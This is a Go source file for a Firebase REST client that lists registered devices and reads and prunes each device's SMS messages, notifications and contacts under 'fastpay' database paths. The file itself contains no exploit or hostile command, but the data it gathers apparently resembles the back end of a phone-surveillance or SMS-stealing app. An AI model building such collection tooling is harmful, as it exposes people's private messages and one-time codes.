package firebase

import (
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"time"

	"github.com/go-resty/resty/v2"
	"go.uber.org/zap"
)

// Environments select which tree paths device data lives under.
const (
	EnvProduction = "production"
	EnvStaging    = "staging"
)

// Client reads and cleans the Firebase Realtime Database over its REST
// surface (GET/PUT {url}/{path}.json). Paths vary by environment; legacy
// production paths are tried in order until one has data.
type Client struct {
	http   *resty.Client
	env    string
	token  string
	logger *zap.Logger
}

func NewClient(databaseURL, authToken, env string, logger *zap.Logger) *Client {
	httpClient := resty.New().
		SetBaseURL(databaseURL).
		SetTimeout(30 * time.Second).
		SetRetryCount(3).
		SetRetryWaitTime(1 * time.Second).
		SetRetryMaxWaitTime(5 * time.Second).
		SetHeader("Accept", "application/json")

	return &Client{
		http:   httpClient,
		env:    env,
		token:  authToken,
		logger: logger,
	}
}

func (c *Client) rootPaths() []string {
	if c.env == EnvStaging {
		return []string{"fastpay/testing"}
	}
	return []string{"device", "fastpay/running"}
}

func (c *Client) deviceInfoPaths(deviceID string) []string {
	if c.env == EnvStaging {
		return []string{"fastpay/testing/" + deviceID}
	}
	return []string{
		"device/" + deviceID,
		"fastpay/running/" + deviceID,
		"fastpay/" + deviceID,
	}
}

func (c *Client) messagePaths(deviceID string) []string {
	if c.env == EnvStaging {
		return []string{"fastpay/testing/" + deviceID + "/messages"}
	}
	return []string{
		"device/" + deviceID + "/messages",
		"fastpay/" + deviceID + "/messages",
		"fastpay/running/" + deviceID + "/messages",
		"message/" + deviceID,
	}
}

func (c *Client) notificationPaths(deviceID string) []string {
	if c.env == EnvStaging {
		return []string{"fastpay/testing/" + deviceID + "/Notification"}
	}
	return []string{
		"device/" + deviceID + "/Notification",
		"fastpay/" + deviceID + "/Notification",
		"fastpay/running/" + deviceID + "/Notification",
	}
}

func (c *Client) contactPaths(deviceID string) []string {
	if c.env == EnvStaging {
		return []string{"fastpay/testing/" + deviceID + "/Contact"}
	}
	return []string{
		"device/" + deviceID + "/Contact",
		"fastpay/" + deviceID + "/Contact",
		"fastpay/running/" + deviceID + "/Contact",
	}
}

func (c *Client) get(ctx context.Context, path string) (json.RawMessage, error) {
	req := c.http.R().SetContext(ctx)
	if c.token != "" {
		req.SetQueryParam("auth", c.token)
	}
	resp, err := req.Get("/" + path + ".json")
	if err != nil {
		return nil, fmt.Errorf("firebase GET %s: %w", path, err)
	}
	if resp.IsError() {
		return nil, fmt.Errorf("firebase GET %s: status %d", path, resp.StatusCode())
	}
	body := resp.Body()
	if len(body) == 0 || string(body) == "null" {
		return nil, nil
	}
	return json.RawMessage(body), nil
}

func (c *Client) put(ctx context.Context, path string, body any) error {
	req := c.http.R().SetContext(ctx).
		SetHeader("Content-Type", "application/json").
		SetBody(body)
	if c.token != "" {
		req.SetQueryParam("auth", c.token)
	}
	resp, err := req.Put("/" + path + ".json")
	if err != nil {
		return fmt.Errorf("firebase PUT %s: %w", path, err)
	}
	if resp.IsError() {
		return fmt.Errorf("firebase PUT %s: status %d", path, resp.StatusCode())
	}
	return nil
}

// fetchMap returns the first non-empty object found along the given paths,
// together with the path that held it. Per-path errors are logged and the
// next path is tried.
func (c *Client) fetchMap(ctx context.Context, paths []string) (map[string]json.RawMessage, string, error) {
	var lastErr error
	for _, path := range paths {
		raw, err := c.get(ctx, path)
		if err != nil {
			c.logger.Debug("firebase path fetch failed", zap.String("path", path), zap.Error(err))
			lastErr = err
			continue
		}
		if raw == nil {
			continue
		}
		var m map[string]json.RawMessage
		if err := json.Unmarshal(raw, &m); err != nil {
			c.logger.Debug("firebase path is not an object", zap.String("path", path))
			continue
		}
		if len(m) > 0 {
			return m, path, nil
		}
	}
	return nil, "", lastErr
}

// ListDeviceIDs lists all device IDs under the environment's root paths.
// Keys whose value is not an object are skipped (metadata nodes).
func (c *Client) ListDeviceIDs(ctx context.Context) ([]string, error) {
	seen := map[string]bool{}
	var firstErr error
	for _, root := range c.rootPaths() {
		raw, err := c.get(ctx, root)
		if err != nil {
			c.logger.Debug("firebase device discovery failed", zap.String("path", root), zap.Error(err))
			if firstErr == nil {
				firstErr = err
			}
			continue
		}
		if raw == nil {
			continue
		}
		var m map[string]json.RawMessage
		if err := json.Unmarshal(raw, &m); err != nil {
			continue
		}
		for key, val := range m {
			if len(val) > 0 && val[0] == '{' {
				seen[key] = true
			}
		}
	}
	if len(seen) == 0 && firstErr != nil {
		return nil, firstErr
	}
	ids := make([]string, 0, len(seen))
	for id := range seen {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	return ids, nil
}

// GetDeviceInfo fetches the device node from the first path that has data.
// Returns nil when the device is unknown to Firebase.
func (c *Client) GetDeviceInfo(ctx context.Context, deviceID string) (map[string]any, error) {
	for _, path := range c.deviceInfoPaths(deviceID) {
		raw, err := c.get(ctx, path)
		if err != nil {
			c.logger.Debug("firebase device info fetch failed", zap.String("path", path), zap.Error(err))
			continue
		}
		if raw == nil {
			continue
		}
		var info map[string]any
		if err := json.Unmarshal(raw, &info); err != nil {
			continue
		}
		if len(info) > 0 {
			return info, nil
		}
	}
	return nil, nil
}

// GetMessages fetches a device's messages keyed by timestamp, truncated to
// the latest limit entries. limit == 0 fetches everything.
func (c *Client) GetMessages(ctx context.Context, deviceID string, limit int) (map[string]Record, error) {
	return c.fetchRecords(ctx, c.messagePaths(deviceID), limit)
}

// GetNotifications fetches a device's notifications keyed by timestamp.
func (c *Client) GetNotifications(ctx context.Context, deviceID string) (map[string]Record, error) {
	return c.fetchRecords(ctx, c.notificationPaths(deviceID), 0)
}

// GetContacts fetches a device's contacts keyed by phone number.
func (c *Client) GetContacts(ctx context.Context, deviceID string) (map[string]Record, error) {
	return c.fetchRecords(ctx, c.contactPaths(deviceID), 0)
}

func (c *Client) fetchRecords(ctx context.Context, paths []string, limit int) (map[string]Record, error) {
	raw, _, err := c.fetchMap(ctx, paths)
	if err != nil {
		return nil, err
	}
	records := make(map[string]Record, len(raw))
	for key, val := range raw {
		records[key] = DecodeRecord(val)
	}
	if limit > 0 {
		records = PruneByTimestamp(records, limit)
	}
	return records, nil
}

// CleanMessages trims the device's message collection on the Firebase side
// to the latest keep entries. keep == 0 means "do not prune". Returns the
// number of removed entries.
func (c *Client) CleanMessages(ctx context.Context, deviceID string, keep int) (int, error) {
	return c.cleanByTimestamp(ctx, c.messagePaths(deviceID), keep)
}

// CleanNotifications trims the device's notification collection.
func (c *Client) CleanNotifications(ctx context.Context, deviceID string, keep int) (int, error) {
	return c.cleanByTimestamp(ctx, c.notificationPaths(deviceID), keep)
}

// CleanContacts trims the device's contact collection, keeping the entries
// with the most recent lastContacted.
func (c *Client) CleanContacts(ctx context.Context, deviceID string, keep int) (int, error) {
	if keep <= 0 {
		return 0, nil
	}
	raw, path, err := c.fetchMap(ctx, c.contactPaths(deviceID))
	if err != nil {
		return 0, err
	}
	if len(raw) <= keep {
		return 0, nil
	}
	records := make(map[string]Record, len(raw))
	for key, val := range raw {
		records[key] = DecodeRecord(val)
	}
	kept := PruneContacts(records, keep)
	pruned := make(map[string]json.RawMessage, len(kept))
	for key := range kept {
		pruned[key] = raw[key]
	}
	if err := c.put(ctx, path, pruned); err != nil {
		return 0, err
	}
	return len(raw) - len(pruned), nil
}

func (c *Client) cleanByTimestamp(ctx context.Context, paths []string, keep int) (int, error) {
	if keep <= 0 {
		return 0, nil
	}
	raw, path, err := c.fetchMap(ctx, paths)
	if err != nil {
		return 0, err
	}
	if len(raw) <= keep {
		return 0, nil
	}
	keys := make([]string, 0, len(raw))
	for k := range raw {
		keys = append(keys, k)
	}
	kept := KeepLatestKeys(keys, keep)
	pruned := make(map[string]json.RawMessage, len(kept))
	for _, k := range kept {
		pruned[k] = raw[k]
	}
	if err := c.put(ctx, path, pruned); err != nil {
		return 0, err
	}
	return len(raw) - len(pruned), nil
}

// Ping checks that the database root is reachable.
func (c *Client) Ping(ctx context.Context) error {
	req := c.http.R().SetContext(ctx).SetQueryParam("shallow", "true")
	if c.token != "" {
		req.SetQueryParam("auth", c.token)
	}
	resp, err := req.Get("/.json")
	if err != nil {
		return fmt.Errorf("firebase ping: %w", err)
	}
	if resp.IsError() {
		return fmt.Errorf("firebase ping: status %d", resp.StatusCode())
	}
	return nil
}
